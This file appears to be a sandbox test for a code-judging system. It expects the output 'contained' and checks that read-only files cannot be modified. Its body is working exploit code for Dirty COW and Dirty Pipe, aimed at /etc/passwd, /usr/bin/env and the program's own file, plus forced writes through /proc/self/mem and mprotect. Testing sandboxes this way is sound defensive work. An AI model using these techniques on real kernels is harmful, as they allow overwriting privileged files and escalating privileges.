// tries: to change read-only files through the page cache: Dirty COW (CVE-2016-5195), Dirty Pipe (CVE-2022-0847), forced writes through /proc/self/mem
// must: AC
// prints: contained
// limits: cpu 2s, wall 5s, memory 64 MiB
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int over;
static void *page;

static void *discard(void *unused) {
  while (!over) madvise(page, 4096, MADV_DONTNEED);
  return NULL;
}

// Reads past the mapping, as the next who opens it would.
static int changed(const char *path, const char *before) {
  char now[64];
  int fd = open(path, O_RDONLY);
  ssize_t length = pread(fd, now, sizeof now, 0);
  close(fd);
  return length != sizeof now || memcmp(now, before, sizeof now) != 0;
}

int main() {
  int got = 0;
  const char *paths[] = {"/usr/bin/env", "/etc/passwd", "/program/main"};
  for (int i = 0; i < 3; i++) {
    char before[64];
    int file = open(paths[i], O_RDONLY);
    if (pread(file, before, sizeof before, 0) != sizeof before) return 1;

    // Dirty COW: a forced write to a private read-only mapping, in a race with madvise.
    page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    over = 0;
    pthread_t racer;
    pthread_create(&racer, NULL, discard, NULL);
    int memory = open("/proc/self/mem", O_RDWR);
    for (int k = 0; memory >= 0 && k < 5000; k++) pwrite(memory, "moo", 3, (off_t)page);
    over = 1;
    pthread_join(racer, NULL);
    if (changed(paths[i], before)) got = printf("%s changed by copy on write\n", paths[i]);
    void *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (memory >= 0 && pwrite(memory, "moo", 3, (off_t)shared) == 3) got = printf("%s written through a shared mapping\n", paths[i]);
    if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0) got = printf("%s made writable\n", paths[i]);

    // Dirty Pipe: pages of the file spliced into a pipe whose buffers still say that they may be merged into.
    int ends[2];
    if (pipe(ends)) return 1;
    static char fill[4096];
    for (int k = 0; k < 16; k++) write(ends[1], fill, sizeof fill);
    for (int k = 0; k < 16; k++) read(ends[0], fill, sizeof fill);
    off_t offset = 0;
    splice(file, &offset, ends[1], NULL, 1, 0);
    write(ends[1], "moo", 3);
    if (changed(paths[i], before)) got = printf("%s changed by a pipe\n", paths[i]);
    close(ends[0]), close(ends[1]), close(file);
  }
  if (!got) puts("contained");
}
